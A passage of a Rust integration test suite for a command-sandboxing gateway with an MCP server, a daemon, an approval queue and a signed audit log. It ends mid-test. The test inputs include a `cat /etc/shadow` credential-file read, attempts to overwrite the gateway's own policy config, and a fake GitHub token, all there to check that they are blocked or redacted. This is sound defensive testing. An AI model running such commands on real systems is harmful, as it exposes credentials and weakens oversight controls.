    assert_eq!(ok("inside")["output"]["lines"][0][1], "in");
    refused("outside", &root_s);
    // The session starts in the first root when its directory lies outside them.
    assert_eq!(
        ok("relative")["output"]["path"],
        root.join("in.txt").display().to_string()
    );
    assert_eq!(ok("pwd")["stdout"], format!("{root_s}\n"));
    // A command writes inside the roots only (landlock), and runs only inside them.
    let e = ok("escape");
    assert!(
        e["stderr"]
            .as_str()
            .expect("stderr")
            .contains("Permission denied"),
        "{e}"
    );
    assert!(!env.ws.join("escape.txt").exists());
    assert!(root.join("inside.txt").exists());
    refused("exec_outside", &root_s);
    // `cd` out of the roots is refused and the session stays where it was.
    let (err, v) = field("cd_outside");
    assert!(err, "cd outside the roots should be refused: {v}");
    assert_eq!(ok("pwd_after_cd")["stdout"], format!("{root_s}\n"));
    refused("write_outside", &root_s);
    assert!(!env.ws.join("new.txt").exists());
    // The client changed its roots: asked again; a non-local root narrows to nothing.
    assert_eq!(ok("widened_by_client")["output"]["lines"][0][1], "out");
    refused("no_local_root", "(none)");
}

sandbox_test!(
    fn mcp_server_works_with_a_real_mcp_client() {
        // The Python MCP SDK drives `gateway mcp`: initialize, tools/list, calls of every kind.
        let env = Env::new("mcp");
        let Some(v) = mcp_client(&env, "".as_ref(), "mcp_client.py", &[], None) else {
            return;
        };
        check_mcp_client_run(&env, &v, &|args| env.gw(args), "mcp");
    }
);

sandbox_test!(
    fn mcp_client_roots_narrow_the_servers_paths() {
        // The client declares roots (a directory with a space: a percent-encoded URI): file
        // tools and commands are held inside them, never beyond the policy; roots/list_changed
        // is followed; a root that is not a local directory leaves nothing.
        let env = Env::new("mcp-roots");
        let root = env.ws.join("my root");
        std::fs::create_dir(&root).expect("root");
        env.write("my root/in.txt", "in\n");
        env.write("out.txt", "out\n");
        let root_s = root.display().to_string();
        let Some(v) = mcp_client(&env, "".as_ref(), "mcp_roots.py", &[&root_s, "roots"], None)
        else {
            return;
        };
        check_mcp_roots_run(&env, &root, &v);
        let o = env.gw(&["log", "verify"]);
        assert!(o.status.success(), "{}", text(&o));
    }
);

sandbox_test!(
    fn mcp_server_goes_through_the_daemon() {
        // With a daemon running, `gateway mcp` is its front end: the same tools and results,
        // the records in the daemon's log (caller: the MCP server's pid, `client: daemon`),
        // the client's roots applied by the daemon, and `ask` waiting in the daemon's queue
        // for `gateway approve` / `gateway deny`.
        let env = Env::new("mcp-daemon");
        let d = Daemon::start(&env, "standard", &[]);
        let sock = d.socket.clone();
        let audit = |args: &[&str]| -> Output { d.cmd(&env).args(args).output().expect("gateway") };
        let Some(v) = mcp_client(&env, sock.as_os_str(), "mcp_client.py", &[], None) else {
            return;
        };
        check_mcp_client_run(&env, &v, &audit, "daemon");

        let root = env.ws.join("my root");
        std::fs::create_dir(&root).expect("root");
        env.write("my root/in.txt", "in\n");
        env.write("out.txt", "out\n");
        let root_s = root.display().to_string();
        let v = mcp_client(
            &env,
            sock.as_os_str(),
            "mcp_roots.py",
            &[&root_s, "roots"],
            None,
        )
        .expect("client");
        check_mcp_roots_run(&env, &root, &v);

        let pf = env.policy_file(
            "extends = \"standard\"\n[approval]\ntimeout = \"60s\"\n\n[[rule]]\nid = \"ask-touch\"\neffect = \"ask\"\ntools = [\"exec\"]\ncommand = [\"touch\", \"asked*\"]\nreason = \"the test asks before this\"\n",
        );
        let v = mcp_client(
            &env,
            sock.as_os_str(),
            "mcp_roots.py",
            &[&root_s, "ask"],
            Some(&pf),
        )
        .expect("client");
        let p = &v["approve"]["pending"];
        assert_eq!(p["tool"], "exec", "{v}");
        assert_eq!(p["command"], "sh -c touch asked.txt");
        assert_eq!(p["rules"][0], "ask-touch: the test asks before this");
        assert!(
            p["session"].as_str().is_some_and(|s| s.starts_with("mcp-")),
            "{p}"
        );
        assert_eq!(v["approve"]["answer_exit"], 0);
        assert_eq!(v["approved"]["is_error"], false, "{v}");
        let r: serde_json::Value =
            serde_json::from_str(v["approved"]["text"].as_str().expect("text")).expect("json");
        assert_eq!(r["exit_code"], 0);
        // The session is held in the client's root: the command ran there.
        assert!(root.join("asked.txt").exists());
        assert_eq!(v["deny"]["answer_exit"], 0);
        assert_eq!(v["denied"]["is_error"], true, "{v}");
        let t = v["denied"]["text"].as_str().expect("text");
        assert!(t.contains("not approved") && t.contains("ask-touch"), "{t}");
        assert!(!root.join("asked-again.txt").exists());
        let o = audit(&["log", "query", "--json", "--tool", "approval"]);
        let answers = json_of(&o)["records"].as_array().expect("records").len();
        assert_eq!(answers, 2, "{}", text(&o));
        let o = audit(&["log", "verify"]);
        assert!(o.status.success(), "{}", text(&o));
    }
);

/// Drives `gateway repl` on a real terminal with tmux (.ci/run installs it), as its own
/// broker (`socket` "") or as the daemon's front end; `audit` runs `gateway log ...` where
/// the records are. GATEWAY_TEST_NO_TMUX=1 skips the REPL tests explicitly (CI never sets
/// it): false.
fn repl_in_tmux(env: &Env, socket: &Path, audit: &dyn Fn(&[&str]) -> Output) -> bool {
    if std::env::var_os("GATEWAY_TEST_NO_TMUX").is_some() {
        eprintln!("skipped: GATEWAY_TEST_NO_TMUX is set");
        return false;
    }
    std::fs::write(env.ws.join("f.txt"), "orig\n").expect("w");
    std::fs::create_dir(env.ws.join("sub")).expect("sub");
    let policy = env.policy_file(
        "extends = \"standard\"\n\n[[rule]]\nid = \"ask-touch\"\neffect = \"ask\"\ntools = [\"exec\"]\ncommand = [\"touch\", \"asked*\"]\nreason = \"the test asks before this\"\n",
    );
    let name = format!(
        "gwt-repl-{}-{}",
        std::process::id(),
        env.root.file_name().expect("name").to_string_lossy()
    );
    let tmux = |args: &[&str]| -> Output {
        Command::new("tmux")
            .args(args)
            .output()
            .expect("tmux (apt-get install tmux)")
    };
    let script = format!(
        "cd '{}' && HOME='{}' GATEWAY_STATE_DIR='{}' GATEWAY_SOCKET='{}' GATEWAY_POLICY='{}' '{}' repl",
        env.ws.display(),
        env.home.display(),
        env.state.display(),
        socket.display(),
        policy,
        BIN
    );
    let o = tmux(&[
        "new-session",
        "-d",
        "-s",
        &name,
        "-x",
        "160",
        "-y",
        "50",
        &script,
    ]);
    assert!(o.status.success(), "{}", text(&o));
    let screen =
        || String::from_utf8_lossy(&tmux(&["capture-pane", "-p", "-t", &name]).stdout).into_owned();
    let wait_for = |want: &dyn Fn(&str) -> bool, what: &str| {
        for _ in 0..100 {
            if want(&screen()) {
                return;
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        let s = screen();
        let _ = tmux(&["kill-session", "-t", &name]);
        panic!("{what} did not appear:\n{s}");
    };
    let send = |keys: &str| {
        assert!(
            tmux(&["send-keys", "-t", &name, "-l", keys])
                .status
                .success()
        );
        assert!(tmux(&["send-keys", "-t", &name, "Enter"]).status.success());
    };
    wait_for(&|s| s.contains("gateway:ws$"), "the prompt");
    if !socket.as_os_str().is_empty() {
        assert!(screen().contains("through the daemon at"), "{}", screen());
    }
    send("!echo hi from the repl");
    wait_for(
        &|s| s.lines().any(|l| l == "hi from the repl"),
        "the command's output",
    );
    send("echo changed > f.txt");
    wait_for(&|s| s.contains("changed 1 file(s)"), "the snapshot report");
    assert_eq!(
        std::fs::read_to_string(env.ws.join("f.txt")).expect("r"),
        "changed\n"
    );
    send("/undo");
    wait_for(&|s| s.contains("reverted 1 file(s)"), "/undo");
    assert_eq!(
        std::fs::read_to_string(env.ws.join("f.txt")).expect("r"),
        "orig\n"
    );
    send("/log --tool exec");
    wait_for(&|s| s.contains("sh -c echo changed > f.txt"), "/log");
    // /cd moves the session: the next line runs there.
    send("/cd sub");
    wait_for(&|s| s.contains("gateway:sub$"), "the prompt in sub");
    send("pwd");
    let sub = env.ws.join("sub").display().to_string();
    wait_for(&|s| s.lines().any(|l| l == sub), "pwd in sub");
    // An `ask` rule: the question comes to this terminal, and `y` approves it.
    send("touch asked.txt");
    wait_for(
        &|s| s.contains("rule ask-touch") && s.contains("[y/N]"),
        "the approval question",
    );
    send("y");
    for _ in 0..100 {
        if env.ws.join("sub/asked.txt").exists() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    assert!(env.ws.join("sub/asked.txt").exists(), "{}", screen());
    // A token on a command line: refused, and redacted in the history file.
    let token = format!("ghp_{}", "Zq8xK2mP4vR7".repeat(3));
    send(&format!("echo {token}"));
    wait_for(&|s| s.contains("contains a secret"), "the refusal");
    send("/exit");
    for _ in 0..50 {
        if !tmux(&["has-session", "-t", &name]).status.success() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let _ = tmux(&["kill-session", "-t", &name]);
    let history = std::fs::read_to_string(env.state.join("repl_history")).expect("history");
    assert!(history.contains("/undo"), "{history}");
    assert!(history.contains("REDACTED"), "{history}");
    assert!(
        !history.contains(&token),
        "a secret reached the history file"
    );
    // The REPL's calls share one session id.
    let o = audit(&["log", "query", "--json", "--limit", "0"]);
    let recs = json_of(&o)["records"].as_array().expect("records").clone();
    let sessions: std::collections::BTreeSet<String> = recs
        .iter()
        .map(|r| r["session"].as_str().expect("session").to_string())
        .filter(|s| s != "daemon")
        .collect();
    assert_eq!(sessions.len(), 1, "{sessions:?}");
    assert!(
        sessions.iter().all(|s| s.starts_with("repl-")),
        "{sessions:?}"
    );
    let o = audit(&["log", "verify"]);
    assert!(o.status.success(), "{}", text(&o));
    true
}

sandbox_test!(
    fn repl_in_tmux_runs_lines_undoes_and_shows_the_log() {
        let env = Env::new("repl");
        repl_in_tmux(&env, Path::new(""), &|args| env.gw(args));
    }
);

sandbox_test!(
    fn repl_goes_through_the_daemon() {
        // With a daemon running, the REPL is its front end: the same session, with every
        // line and slash command a call to the daemon, recorded in the daemon's log.
        let env = Env::new("repl-daemon");
        let d = Daemon::start(&env, "standard", &[]);
        let audit = |args: &[&str]| -> Output { d.cmd(&env).args(args).output().expect("gateway") };
        if repl_in_tmux(&env, &d.socket, &audit) {
            let o = audit(&["log", "query", "--json", "--limit", "0"]);
            let recs = json_of(&o)["records"].as_array().expect("records").clone();
            let execs: Vec<_> = recs.iter().filter(|r| r["tool"] == "exec").collect();
            assert!(execs.len() >= 4, "{execs:?}");
            assert!(
                execs.iter().all(|r| r["caller"]["client"] == "daemon"),
                "{execs:?}"
            );
        }
    }
);

sandbox_test!(
    fn no_command_reads_changes_or_creates_gateways_config() {
        // The config names the state directory and the default policy: a run that could
        // write it could point later runs elsewhere. Even permissive cannot reach it.
        let env = Env::new("config-guard");
        let cfg = env.root.join("gw-config.toml");
        std::fs::write(&cfg, "policy = \"strict\"\n").expect("config");
        let c = cfg.display().to_string();
        let run = |explicit: bool, script: &str| -> Output {
            let mut cmd = env.cmd();
            if explicit {
                cmd.env("GATEWAY_CONFIG", &cfg);
            } else {
                cmd.env_remove("GATEWAY_CONFIG")
                    .env_remove("XDG_CONFIG_HOME");
            }
            cmd.args(["--policy", "permissive", "exec", "--", "sh", "-c", script])
                .output()
                .expect("run")
        };
        let o = run(true, &format!("cat '{c}'"));
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        assert!(!stdout(&o).contains("strict"), "{}", text(&o));
        let o = run(true, &format!("echo 'policy = \"permissive\"' > '{c}'"));
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        assert_eq!(
            std::fs::read_to_string(&cfg).expect("r"),
            "policy = \"strict\"\n"
        );
        // The default location: its directory exists (gateway made it) and is out of reach.
        let o = run(
            false,
            "mkdir -p \"$HOME/.config/gateway\"; echo 'state_dir = \"/tmp/x\"' > \"$HOME/.config/gateway/config.toml\"",
        );
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        assert!(env.home.join(".config/gateway").is_dir());
        assert!(!env.home.join(".config/gateway/config.toml").exists());
        // An existing sibling under ~/.config stays writable for permissive (new entries
        // directly in ~/.config are not: landlock leaves a denied path's ancestors list-only,
        // as ~/.ssh already does for $HOME).
        std::fs::create_dir_all(env.home.join(".config/other")).expect("mkdir");
        let o = run(false, "echo ok > \"$HOME/.config/other/f\"");
        assert!(o.status.success(), "{}", text(&o));
    }
);

// ---------- the daemon (issue 6) ----------

/// A `gateway serve` for one test: its socket in the test's root, its state the test's.
struct Daemon {
    child: std::process::Child,
    socket: PathBuf,
}

impl Daemon {
    fn start(env: &Env, policy: &str, extra: &[&str]) -> Daemon {
        let socket = env.root.join("gw.sock");
        let child = env
            .cmd()
            .args(["serve", "--policy", policy, "--socket"])
            .arg(&socket)
            .args(extra)
            .env_remove("LANG")
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("gateway serve");
        for _ in 0..500 {
            if std::os::unix::net::UnixStream::connect(&socket).is_ok() {
                return Daemon { child, socket };
            }
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
        let mut child = child;
        let _ = child.kill();
        let _ = child.wait();
        panic!("the daemon did not start listening on {}", socket.display());
    }

    /// A CLI command of this test routed through the daemon.
    fn cmd(&self, env: &Env) -> Command {
        let mut c = env.cmd();
        c.env("GATEWAY_SOCKET", &self.socket);
        c
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }

    /// SIGTERM, then its exit status and stderr.
    fn stop(mut self) -> (std::process::ExitStatus, String) {
        let _ = Command::new("kill")
            .args(["-TERM", &self.child.id().to_string()])
            .status();
        let mut err = String::new();
        if let Some(mut e) = self.child.stderr.take() {
            let _ = std::io::Read::read_to_string(&mut e, &mut err);
        }
        let st = self.child.wait().expect("wait daemon");
        (st, err)
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn rss_and_fds(pid: u32) -> (u64, usize) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("status");
    let rss = status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next()?.parse::<u64>().ok())
        .expect("VmRSS");
    let fds = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .expect("fd dir")
        .count();
    (rss, fds)
}

sandbox_test!(
    fn daemon_gives_the_same_results_as_the_embedded_broker() {
        let env = Env::new("daemon-same");
        let d = Daemon::start(&env, "strict", &[]);
        env.write("a.txt", "one\n");
        type Case<'a> = (&'a [&'a str], Option<&'a str>);
        let cases: &[Case] = &[
            (
                &["exec", "--", "sh", "-c", "echo out; echo err >&2; exit 3"],
                None,
            ),
            (&["exec", "--", "cat"], Some("from stdin\n")),
            (&["exec", "--", "sh", "-c", "cat /etc/shadow"], None),
            (&["exec", "--", "nosuchprogram"], None),
            (&["fs", "read", "a.txt"], None),
            (&["fs", "read", "../outside/x"], None),
            (&["sh", "-c", "echo $0 $1", "n", "arg"], None),
            (&["policy", "explain", "--", "ls"], None),
            (&["exec", "--badflag"], None),
        ];
        for (args, input) in cases {
            let run = |mut c: Command| {
                c.args(*args);
                if input.is_some() {
                    c.stdin(Stdio::piped());
                }
                c.stdout(Stdio::piped()).stderr(Stdio::piped());
                let mut ch = c.spawn().expect("spawn");
                if let Some(i) = input {
                    use std::io::Write as _;
                    ch.stdin
                        .take()
                        .expect("stdin")
                        .write_all(i.as_bytes())
                        .expect("write");
                }
                ch.wait_with_output().expect("wait")
            };
            let mut embedded = env.cmd();
            embedded.args(["--policy", "strict"]);
            let mut through = d.cmd(&env);
            through.args(["--policy", "strict"]);
            let (a, b) = (run(embedded), run(through));
            assert_eq!(
                a.status.code(),
                b.status.code(),
                "{args:?}: {}\n---\n{}",
                text(&a),
                text(&b)
            );
            assert_eq!(stdout(&a), stdout(&b), "{args:?}");
            // stderr may differ only in change numbers and session ids.
            assert_eq!(
                stderr(&a).lines().count(),
                stderr(&b).lines().count(),
                "{args:?}: {}\n---\n{}",
                text(&a),
                text(&b)
            );
        }
        // The caller in the record is the client (SO_PEERCRED), the client `daemon`.
        let ch = d
            .cmd(&env)
            .args(["exec", "--", "true"])
            .stdout(Stdio::null())
            .spawn()
            .expect("spawn");
        let client_pid = ch.id();
        assert!(ch.wait_with_output().expect("wait").status.success());
        let recs = log_records(&env);
        let last = recs
            .iter()
            .rev()
            .find(|r| r["tool"] == "exec")
            .expect("exec record");
        assert_eq!(last["caller"]["client"], "daemon", "{last}");
        assert_eq!(last["caller"]["pid"], client_pid, "{last}");
        assert_eq!(last["caller"]["uid"], 0, "{last}");
        assert!(recs.iter().any(|r| r["tool"] == "daemon.start"));
        // The client's environment, not the daemon's (started without LANG), reaches the
        // command as the policy allows; the client's directory is the workspace.
        let o = d
            .cmd(&env)
            .env("LANG", "C.UTF-8")
            .args(["exec", "--", "sh", "-c", "echo $LANG; pwd"])
            .output()
            .expect("run");
        assert_eq!(
            stdout(&o),
            format!("C.UTF-8\n{}\n", env.ws.display()),
            "{}",
            text(&o)
        );
        // A client may not point the daemon at another state directory.
        let o = d
            .cmd(&env)
            .env("GATEWAY_STATE_DIR", env.root.join("elsewhere"))
            .args(["exec", "--", "true"])
            .output()
            .expect("run");
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("keeps its state in"), "{}", text(&o));
        // Undo through the daemon.
        let o = d
            .cmd(&env)
            .args(["fs", "write", "b.txt", "--content", "x"])
            .output()
            .expect("run");
        assert!(o.status.success(), "{}", text(&o));
        let o = d.cmd(&env).args(["undo"]).output().expect("run");
        assert!(o.status.success(), "{}", text(&o));
        assert!(!env.ws.join("b.txt").exists());
        // Verify through the daemon signs its pending batch first.
        let o = d.cmd(&env).args(["log", "verify"]).output().expect("run");
        assert!(o.status.success(), "{}", text(&o));
        let (st, err) = d.stop();
        assert!(st.success(), "{st}: {err}");
        assert!(
            !env.root.join("gw.sock").exists(),
            "socket removed at shutdown"
        );
        // After SIGTERM: a stop record and a final checkpoint covering everything.
        let o = env.cmd().args(["log", "verify"]).output().expect("verify");
        assert!(o.status.success(), "{}", text(&o));
        let recs = log_records(&env);
        assert_eq!(recs.last().expect("records")["tool"], "daemon.stop");
        // No daemon: a named socket that does not answer is an error, not a silent fallback.
        let o = env
            .cmd()
            .env("GATEWAY_SOCKET", env.root.join("gw.sock"))
            .args(["exec", "--", "true"])
            .output()
            .expect("run");
        assert_eq!(o.status.code(), Some(125), "{}", text(&o));
        assert!(
            stderr(&o).contains("cannot reach the daemon"),
            "{}",
            text(&o)
        );
    }
);

sandbox_test!(
    fn daemon_survives_malformed_oversized_truncated_and_slow_clients() {
        use std::io::{Read as _, Write as _};
        use std::os::unix::net::UnixStream;
        let env = Env::new("daemon-bad");
        let d = Daemon::start(&env, "strict", &["--call-timeout", "0.5"]);
        let reply = |s: &mut UnixStream| {
            s.set_read_timeout(Some(std::time::Duration::from_secs(10)))
                .expect("timeout");
            let mut v = Vec::new();
            let _ = s.read_to_end(&mut v);
            String::from_utf8_lossy(&v).into_owned()
        };
        let frame = |body: &[u8]| {
            let mut f = (body.len() as u32).to_be_bytes().to_vec();
            f.extend_from_slice(body);
            f
        };
        // Malformed JSON.
        let mut s = UnixStream::connect(&d.socket).expect("connect");
        s.write_all(&frame(b"{not json")).expect("send");
        let r = reply(&mut s);
        assert!(r.contains("\"error\"") && r.contains("malformed"), "{r}");
        // Oversized: refused from the length alone.
        let mut s = UnixStream::connect(&d.socket).expect("connect");
        s.write_all(&u32::MAX.to_be_bytes()).expect("send");
        let r = reply(&mut s);
        assert!(r.contains("larger than the limit"), "{r}");
        // Truncated: half a message, then the client goes away.
        let mut s = UnixStream::connect(&d.socket).expect("connect");
        let f =
            frame(br#"{"type":"call","version":1,"argv":["exec","--","true"],"cwd":"/","env":[]}"#);
        s.write_all(&f[..f.len() / 2]).expect("send");
        s.shutdown(std::net::Shutdown::Write).expect("shutdown");
        let r = reply(&mut s);
        assert!(r.contains("in the middle of a message"), "{r}");
        // A call without stdio fds, and one in another protocol version.
        let mut s = UnixStream::connect(&d.socket).expect("connect");
        s.write_all(&f).expect("send");
        let r = reply(&mut s);
        assert!(r.contains("stdin, stdout and stderr"), "{r}");
        let mut s = UnixStream::connect(&d.socket).expect("connect");
        s.write_all(&frame(
            br#"{"type":"call","version":99,"argv":["exec","--","true"],"cwd":"/","env":[]}"#,
        ))
        .expect("send");
        assert!(reply(&mut s).contains("protocol version 99"));
        // Slow: a client that connects and says nothing is dropped after --call-timeout...
        let mut slow = UnixStream::connect(&d.socket).expect("connect");
        // ... and one that never reads its answer does not hold up others.
        let _idle = UnixStream::connect(&d.socket).expect("connect");
        let o = d
            .cmd(&env)
            .args(["exec", "--", "echo", "still serving"])
            .output()
            .expect("run");
        assert_eq!(stdout(&o), "still serving\n", "{}", text(&o));
        let r = reply(&mut slow);
        assert!(r.contains("timed out waiting for the call"), "{r}");
        let o = d
            .cmd(&env)
            .args(["exec", "--", "true"])
            .output()
            .expect("run");
        assert!(o.status.success(), "{}", text(&o));
        let (st, err) = d.stop();
        assert!(st.success(), "{st}: {err}");
    }
);

sandbox_test!(
    fn daemon_load_32_clients_x_100_calls() {
        let env = Env::new("daemon-load");
        let d = Daemon::start(&env, "strict", &[]);
        let call = || {
            d.cmd(&env)
                .args(["exec", "--", "true"])
                .stdout(Stdio::null())
                .output()
                .expect("run")
        };
        // Warm up with the same concurrency (threads, the allocator's per-thread arenas,
        // caches), then measure across the run.
        let failures = AtomicUsize::new(0);
        let burst = |calls: usize| {
            std::thread::scope(|s| {
                for _ in 0..32 {
                    s.spawn(|| {
                        for _ in 0..calls {
                            let o = call();
                            if !o.status.success() {
                                eprintln!("failed call: {}", text(&o));
                                failures.fetch_add(1, Ordering::SeqCst);
                            }
                        }
                    });
                }
            })
        };
        burst(5);
        std::thread::sleep(std::time::Duration::from_millis(300));
        let before = rss_and_fds(d.pid());
        std::thread::scope(|s| {
            for _ in 0..32 {
                s.spawn(|| {
                    for _ in 0..100 {
                        let o = call();
                        if !o.status.success() {
                            eprintln!("failed call: {}", text(&o));
                            failures.fetch_add(1, Ordering::SeqCst);
                        }
                    }
                });
            }
        });
        assert_eq!(failures.load(Ordering::SeqCst), 0, "every call answered");
        std::thread::sleep(std::time::Duration::from_millis(300));
        let after = rss_and_fds(d.pid());
        eprintln!(
            "daemon before: {} KiB RSS, {} fds; after 3,200 calls: {} KiB RSS, {} fds",
            before.0, before.1, after.0, after.1
        );
        assert_eq!(after.1, before.1, "open fds grew");
        assert!(
            after.0 < before.0 + 4 * 1024,
            "RSS grew from {} to {} KiB",
            before.0,
            after.0
        );
        let o = d
            .cmd(&env)
            .args(["log", "verify"])
            .output()
            .expect("verify");
        assert!(o.status.success(), "{}", text(&o));
        let recs = log_records(&env);
        let n = recs
            .iter()
            .filter(|r| {
                r["tool"] == "exec" && r["caller"]["client"] == "daemon" && r["exit_code"] == 0
            })
            .count();
        assert_eq!(n, 3360, "every call in the audit log");
        let (st, err) = d.stop();
        assert!(st.success(), "{st}: {err}");
    }
);

sandbox_test!(
    fn daemon_approval_queue_approve_deny_timeout() {
        let env = Env::new("daemon-approve");
        let pf = env.policy_file("extends = \"standard\"\n[approval]\ntimeout = \"60s\"\n");
        let d = Daemon::start(&env, &pf, &[]);
        let pending = || -> Vec<serde_json::Value> {
            for _ in 0..500 {
                let o = d
                    .cmd(&env)
                    .args(["--json", "pending"])
                    .output()
                    .expect("pending");
                assert!(o.status.success(), "{}", text(&o));
                let v: Vec<serde_json::Value> = serde_json::from_slice(&o.stdout).expect("json");
                if !v.is_empty() {
                    return v;
                }
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
            panic!("no pending request appeared");
        };
        env.write("keep.txt", "k");
        env.write("gone.txt", "g");
        // Denied: the request waits, `gateway deny` answers, the call is not approved.
        let ch = d
            .cmd(&env)
            .args(["fs", "rm", "--permanent", "keep.txt"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn");
        let p = pending();
        assert_eq!(p.len(), 1);
        assert_eq!(p[0]["tool"], "fs.rm.permanent");
        assert_eq!(p[0]["risk"], "high");
        assert!(
            p[0]["rules"][0]
                .as_str()
                .unwrap_or("")
                .starts_with("ask-purge"),
            "{p:?}"
        );
        let id = p[0]["id"].as_u64().expect("id");
        let o = d
            .cmd(&env)
            .args(["deny", &id.to_string()])
            .output()
            .expect("deny");
        assert!(o.status.success(), "{}", text(&o));
        let o = ch.wait_with_output().expect("wait");
        assert_eq!(o.status.code(), Some(121), "{}", text(&o));
        assert!(env.ws.join("keep.txt").exists());
        // Answering again, or an unknown id: refused.
        let o = d
            .cmd(&env)
            .args(["approve", &id.to_string()])
            .output()
            .expect("approve");
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        // Approved for the session: done, and the same call later is not asked again.
        let ch = d
            .cmd(&env)
            .env("GATEWAY_SESSION", "s2")
            .args(["fs", "rm", "--permanent", "gone.txt"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn");
        let id = pending()[0]["id"].as_u64().expect("id");
        let o = d
            .cmd(&env)
            .args(["approve", &id.to_string(), "--always-for-session"])
            .output()
            .expect("approve");
        assert!(o.status.success(), "{}", text(&o));
        let o = ch.wait_with_output().expect("wait");
        assert!(o.status.success(), "{}", text(&o));
        assert!(!env.ws.join("gone.txt").exists());
        env.write("gone.txt", "again");
        let o = d
            .cmd(&env)
            .env("GATEWAY_SESSION", "s2")
            .args(["fs", "rm", "--permanent", "gone.txt"])
            .output()
            .expect("run");
        assert!(o.status.success(), "{}", text(&o));
        let (st, err) = d.stop();
        assert!(st.success(), "{st}: {err}");
        // No answer in time: denied.
        let pf = env.policy_file("extends = \"standard\"\n[approval]\ntimeout = 1\n");
        let d = Daemon::start(&env, &pf, &[]);
        let o = d
            .cmd(&env)
            .args(["fs", "rm", "--permanent", "keep.txt"])
            .output()
            .expect("run");
        assert_eq!(o.status.code(), Some(121), "{}", text(&o));
        assert!(stderr(&o).contains("no answer within 1 s"), "{}", text(&o));
        let (st, err) = d.stop();
        assert!(st.success(), "{st}: {err}");
        // Every answer is audited, with who answered.
        let approvals: Vec<_> = log_records(&env)
            .into_iter()
            .filter(|r| r["tool"] == "approval")
            .collect();
        let reasons: Vec<String> = approvals
            .iter()
            .map(|r| {
                r["decision"]["reasons"][0]
                    .as_str()
                    .unwrap_or("")
                    .to_string()
            })
            .collect();
        assert!(
            reasons
                .iter()
                .any(|r| r.starts_with("denied by uid 0 pid ") && r.contains("gateway deny")),
            "{reasons:?}"
        );
        assert!(
            reasons
                .iter()
                .any(|r| r.contains("approved by uid 0") && r.contains("--always-for-session")),
            "{reasons:?}"
        );
        assert!(
            reasons
                .iter()
                .any(|r| r.contains("approved earlier for this session")),
            "{reasons:?}"
        );
        assert!(
            reasons
                .iter()
                .any(|r| r == "denied by no answer within 1 s"),
            "{reasons:?}"
        );
        let o = env.cmd().args(["log", "verify"]).output().expect("verify");
        assert!(o.status.success(), "{}", text(&o));
    }
);

sandbox_test!(
    fn tool_command_runs_one_mcp_tool_call() {
        // `gateway tool NAME ARGS`: what the MCP server runs for each call (and sends to the
        // daemon): the result as JSON, exit 1 for an error result, --root narrows.
        let env = Env::new("tool-cmd");
        env.write("a.txt", "alpha\n");
        std::fs::create_dir(env.ws.join("sub")).expect("sub");
        let o = env.gw(&["tool", "read_file", r#"{"path":"a.txt"}"#]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        let v = json_of(&o);
        assert_eq!(v["isError"], false);
        let inner: serde_json::Value =
            serde_json::from_str(v["content"][0]["text"].as_str().expect("text")).expect("json");
        assert_eq!(inner["output"]["lines"][0][1], "alpha");
        // Narrowed to sub/: a.txt lies outside.
        let abs = env.ws.join("a.txt").display().to_string();
        let args = format!(r#"{{"path":"{abs}"}}"#);
        let o = env.gw(&["tool", "read_file", &args, "--root", "sub"]);
        assert_eq!(o.status.code(), Some(1), "{}", text(&o));
        assert!(text(&o).contains("client-roots"), "{}", text(&o));
        let o = env.gw(&["tool", "read_file", &args, "--no-roots"]);
        assert_eq!(o.status.code(), Some(1), "{}", text(&o));
        // Usage errors: bad JSON, not an object, a root that is not a directory; unknown tool.
        for bad in [
            vec!["tool", "read_file", "{"],
            vec!["tool", "read_file", "[1]"],
            vec!["tool", "read_file", "{}", "--root", "a.txt"],
        ] {
            let o = env.gw(&bad);
            assert_eq!(o.status.code(), Some(122), "{bad:?}: {}", text(&o));
        }
        let o = env.gw(&["tool", "frobnicate"]);
        assert_eq!(o.status.code(), Some(1));
        assert!(text(&o).contains("exec, read_file"), "{}", text(&o));
    }
);

sandbox_test!(
    fn daemon_kills_the_command_of_a_client_that_went_away() {
        // A client's Ctrl-C (here: SIGKILL, which gives it no chance to say anything) ends
        // the connection; the daemon kills the command it was running for it, records the run
        // as cancelled, and goes on serving.
        use std::io::BufRead;
        let env = Env::new("daemon-cancel");
        let d = Daemon::start(&env, "standard", &[]);
        let mut ch = d
            .cmd(&env)
            .args(["exec", "--", "sh", "-c", "echo started; exec sleep 60.4242"])
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("spawn");
        let mut line = String::new();
        std::io::BufReader::new(ch.stdout.take().expect("stdout"))
            .read_line(&mut line)
            .expect("read");
        assert_eq!(line, "started\n");
        let started = std::time::Instant::now();
        ch.kill().expect("kill the client");
        let _ = ch.wait();
        let mut rec = None;
        for _ in 0..200 {
            let o = d
                .cmd(&env)
                .args(["log", "query", "--json", "--tool", "exec"])
                .output()
                .expect("query");
            let recs = json_of(&o)["records"].as_array().expect("records").clone();
            if let Some(r) = recs.into_iter().last() {
                rec = Some(r);
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        let rec = rec.expect("the cancelled run's record");
        assert!(started.elapsed() < std::time::Duration::from_secs(30));
        assert_eq!(rec["cancelled"], true, "{rec}");
        assert_eq!(rec["signal"], 9, "{rec}");
        // No sleep of that run is left.
        let o = Command::new("pgrep")
            .args(["-f", "sleep 60.4242"])
            .output()
            .expect("pgrep");
